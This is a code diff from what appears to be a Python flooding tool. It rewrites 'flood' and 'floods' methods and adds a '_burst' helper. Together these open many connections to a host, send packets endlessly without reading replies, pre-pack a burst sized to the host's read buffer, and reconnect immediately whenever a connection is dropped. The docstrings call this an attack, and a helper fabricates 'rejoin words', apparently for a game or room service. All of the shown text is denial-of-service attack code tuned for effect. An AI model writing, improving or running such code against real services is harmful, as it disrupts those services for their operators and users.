@@ -192,43 +192,40 @@ class Target:
 
     # Floods
 
-    async def flood(self, connection: Any, channel: Any, send: Send) -> None:
-        """Send something without end and read no answers, until the host ends the connection or the time is over.
-
-        As much is sent in one call as a host reads at once, so that it all may be worked through in one turn there.
-        """
+    async def flood(self, connection: Any, channel: Any, send: Send, first: bytes = b"") -> None:
+        """Send `first`, then something without end, and read no answers, until the host ends the connection."""
         transport = connection._transport
         if transport is None:
             return
         transport.pause_reading()
-        write, burst = transport.write, bytearray()
-        transport.write = burst.extend
+        transport.write(first)
         while self.goes_on and not transport.is_closing() and connection._transport is not None:
-            if transport.get_write_buffer_size() == 0:
-                while len(burst) < _BURST and connection._transport is not None:
+            if transport.get_write_buffer_size() < _BURST:
+                for _ in range(50):
                     send(connection, channel)
-                    self.counts["sent"] += 1
-                write(bytes(burst))
-                burst.clear()
+                self.counts["sent"] += 50
             await asyncio.sleep(0.001)
         self.counts["ended" if self.goes_on else "still there"] += 1
-        transport.write = write
         connection.abort()
 
     async def floods(self, connect: Callable[[], Awaitable[tuple[Any, Any]]], send: Send) -> None:
-        """Flood on as many connections as the attack counts. Whoever is sent away comes back at once."""
-        first: list[tuple[Any, Any]] = []
+        """Flood on as many connections as the attack counts. Whoever is sent away comes back at once.
+
+        At first as much is sent in one call as a host reads at once, so that all of it may come in one turn there.
+        """
+        first: list[tuple[Any, Any, bytes]] = []
 
         async def come(_number: int) -> None:
-            first.append(await connect())
+            connection, channel = await connect()
+            first.append((connection, channel, _burst(connection, channel, send)))
 
         await self.many(come)
         await asyncio.sleep(1)
         await self.begin()
 
         async def one(_number: int) -> None:
-            connection, channel = first.pop() if first else await connect()
-            await self.flood(connection, channel, send)
+            connection, channel, burst = first.pop() if first else (*await connect(), b"")
+            await self.flood(connection, channel, send, burst)
 
         await self.again(one)
         self.tell()
@@ -247,3 +244,13 @@ def a_code() -> str:
 def a_word() -> str:
     """Return what looks like a rejoin word."""
     return "maple-" + "".join(random.choices("bcdfghjkmnprstvwxyz346789", k=4))
+
+
+def _burst(connection: Any, channel: Any, send: Send) -> bytes:
+    """Return as many packets as a host reads at once. They are the next ones to be sent."""
+    transport, burst = connection._transport, bytearray()
+    write, transport.write = transport.write, burst.extend
+    while len(burst) < _BURST:
+        send(connection, channel)
+    transport.write = write
+    return bytes(burst)
